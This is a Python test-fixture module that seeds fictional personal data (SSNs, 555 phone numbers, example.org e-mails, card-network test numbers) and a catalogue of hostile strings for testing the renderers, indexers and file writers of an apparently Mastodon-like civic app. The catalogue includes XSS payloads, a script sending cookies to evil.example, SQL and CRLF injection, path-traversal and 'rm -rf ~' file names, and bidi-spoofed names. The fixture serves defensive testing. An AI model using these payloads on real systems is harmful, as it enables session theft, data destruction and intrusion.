"""Seeded personal data and hostile content planted in the sample world.

Every value here is fictional by construction, so tests can assert detectors find it without
the sample ever holding anyone's real data:

- SSNs use areas 400-665 (never 000, 666 or 9xx), groups 01-99 and serials 0001-9999.
- Phone numbers are in the NANP range reserved for fiction, NXX-555-0100..0199, with
  Minnesota area codes; ``phonenumbers.is_valid_number`` accepts every one.
- E-mail addresses use the reserved example.org/.com/.net domains.
- Card numbers are the payment networks' published *test* numbers (all pass Luhn).

Hostile strings exercise renderers, indexers and file writers: script and event-handler HTML,
``javascript:`` links, bidirectional overrides, zero-width characters, very long text, CR/LF
injection and odd media file names.
"""

from __future__ import annotations

import random
from typing import Final

PII_CATEGORIES: Final = ("ssn", "phone", "email", "card")

_AREA_CODES: Final = ("612", "651", "763", "952", "218", "507", "320")
_DOMAINS: Final = ("example.org", "example.com", "example.net")
_TEST_CARDS: Final = (
    "4111111111111111",
    "4012888888881881",
    "4242424242424242",
    "5555555555554444",
    "5105105105105100",
    "378282246310005",
    "6011111111111117",
)


def luhn_ok(digits: str) -> bool:
    """Return True when the digits in ``digits`` (separators ignored) pass the Luhn check."""
    nums = [int(c) for c in digits if c.isdigit()]
    total = 0
    for i, n in enumerate(reversed(nums)):
        if i % 2:
            n *= 2
            if n > 9:
                n -= 9
        total += n
    return bool(nums) and total % 10 == 0


def pii_value(rng: random.Random, category: str, first: str = "pat", last: str = "doe") -> str:
    """Return one fictional value of ``category`` formatted as a person would type it."""
    if category == "ssn":
        area = rng.randint(400, 665)
        sep = rng.choice(("-", "-", "-", " "))
        return f"{area:03d}{sep}{rng.randint(1, 99):02d}{sep}{rng.randint(1, 9999):04d}"
    if category == "phone":
        area, line = rng.choice(_AREA_CODES), f"01{rng.randint(0, 99):02d}"
        style = rng.randrange(4)
        if style == 0:
            return f"({area}) 555-{line}"
        if style == 1:
            return f"{area}-555-{line}"
        if style == 2:
            return f"{area}.555.{line}"
        return f"+1 {area} 555 {line}"
    if category == "email":
        user = rng.choice((f"{first}.{last}", f"{first[0]}{last}", f"{first}{rng.randint(1, 99)}"))
        return f"{user.lower()}@{rng.choice(_DOMAINS)}"
    if category == "card":
        pan = rng.choice(_TEST_CARDS)
        style = rng.randrange(3)
        if style == 0 or len(pan) != 16:
            return pan
        sep = " " if style == 1 else "-"
        return sep.join(pan[i : i + 4] for i in range(0, 16, 4))
    raise ValueError(f"unknown PII category {category!r}")


_COMMENT_PII: Final = {
    "ssn": (
        "The rebate form keeps rejecting my SSN {v}. What am I doing wrong?",
        "My husband's social is {v} - can someone check if his tax payment posted?",
        "For the utility assistance application: SSN {v}, account in my name.",
    ),
    "phone": (
        "Please call me back at {v}, nobody answers at City Hall.",
        "Text me at {v} if the crew needs access to the backyard.",
        "I reported this twice already. My number is {v}.",
    ),
    "email": (
        "Can someone email me the permit form? {v}",
        "Send the agenda to {v} please, the link is broken.",
        "I never got a confirmation. Try {v}",
    ),
    "card": (
        "I paid the parking ticket online with card {v} and was charged twice!!",
        "My card number is {v} - can you just run it for the dog license?",
        "Refund the duplicate charge to {v} please.",
    ),
}

_MESSAGE_PII: Final = {
    "ssn": (
        "Here is the info for the assistance program. SSN: {v}.",
        "They asked for my social on the phone, it's {v}. Is that normal?",
    ),
    "phone": (
        "Best number to reach me during the day is {v}.",
        "You can call my daughter at {v}, she handles my bills now.",
    ),
    "email": (
        "Please send the records to {v} instead of mailing them.",
        "My new e-mail is {v}, the old one bounces.",
    ),
    "card": (
        "Can I pay the water bill here? Card {v}.",
        "Use {v} for the permit fee.",
    ),
}


def pii_sentence(rng: random.Random, category: str, value: str, *, message: bool) -> str:
    """Return a sentence that contains ``value`` verbatim, as a resident might write it."""
    table = _MESSAGE_PII if message else _COMMENT_PII
    return rng.choice(table[category]).format(v=value)


_LONG_RANT: Final = (
    "I have lived on Oak Street for thirty-one years and I have never seen a project managed "
    "like this one. "
)

HOSTILE_TEXTS: Final[dict[str, str]] = {
    "script": "Great meeting tonight! <script>alert(1)</script>",
    "img_onerror": "<img src=x onerror=alert(document.cookie)> look at this pothole",
    "javascript_link": "Full schedule here: javascript:alert('xss') or "
    "[the PDF](javascript:alert(1))",
    "svg_iframe": '<svg onload=alert(1)><iframe src="https://evil.example/"></iframe>',
    "long_text": _LONG_RANT * 60 + "END-OF-LONG-TEXT",
    "rtl_override": "Invoice attached: \u202egpj.exe\u202c - also "
    "\u05e9\u05dc\u05d5\u05dd neighbors \u0645\u0631\u062d\u0628\u0627",
    "zero_width": "Pay\u200bment li\u200dnk: ex\u200cample\ufeff dot org \u2060ok",
    "sql": "Robert'); DROP TABLE comments;--",
    "entities": "Use &lt;b&gt; tags &amp; &quot;quotes&quot; &#x3C;script&#x3E; carefully",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> {% debug %}",
    "combining": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 Z\u0337\u0322\u034ea"
    "\u0335l\u0338g\u0336o\u0334 text",
    "crlf": "line one\r\nX-Injected: 1\r\n\r\n<html>smuggled</html>",
}

#: Statuses whose HTML a misbehaving remote server relays unsanitized (real Mastodon sanitizes).
RAW_HTML_TEXTS: Final[tuple[str, ...]] = (
    '<p>Click <a href="javascript:alert(1)">here</a> for the new trash schedule'
    "<script>document.location='https://evil.example/?c='+document.cookie</script></p>",
    '<p><img src="x" onerror="alert(1)">Road closed<style>body{display:none}</style></p>',
)

HOSTILE_DISPLAY_NAMES: Final = (
    "<img src=x onerror=alert(1)>",
    "\u202eNOSLO\u202c Karen",
    "Ja\u200bne Do\u200ce",
    "Robert'); DROP TABLE accounts;--",
    "\U0001d577\U0001d586\U0001d590\U0001d58a\U0001d598\U0001d58e\U0001d589\U0001d58a"
    " Fan \U0001f3a3",
)

HOSTILE_MEDIA_DESCRIPTIONS: Final = (
    '<script>alert("alt")</script> photo of the ice rink',
    "Photo of flooding\u202e gpj.exe\u202c on Lakeshore Drive",
)

#: Original file names as a remote server reports them (Mastodon renames local files to hex).
ODD_FILE_NAMES: Final = (
    "Screen Shot 2026-03-04 at 9.41.22 AM (1).jpg",
    "../../etc/passwd.jpg",
    "\u00dcN\u00cfC\u00d6D\u00c9 fa\u00e7ade \u2013 Oak St.jpeg",
    "invoice.pdf\u202egpj.jpg",
    "CON.jpg",
    "a" * 200 + ".jpg",
    "snow plow; rm -rf ~.jpg",
    "photo%00.jpg",
)
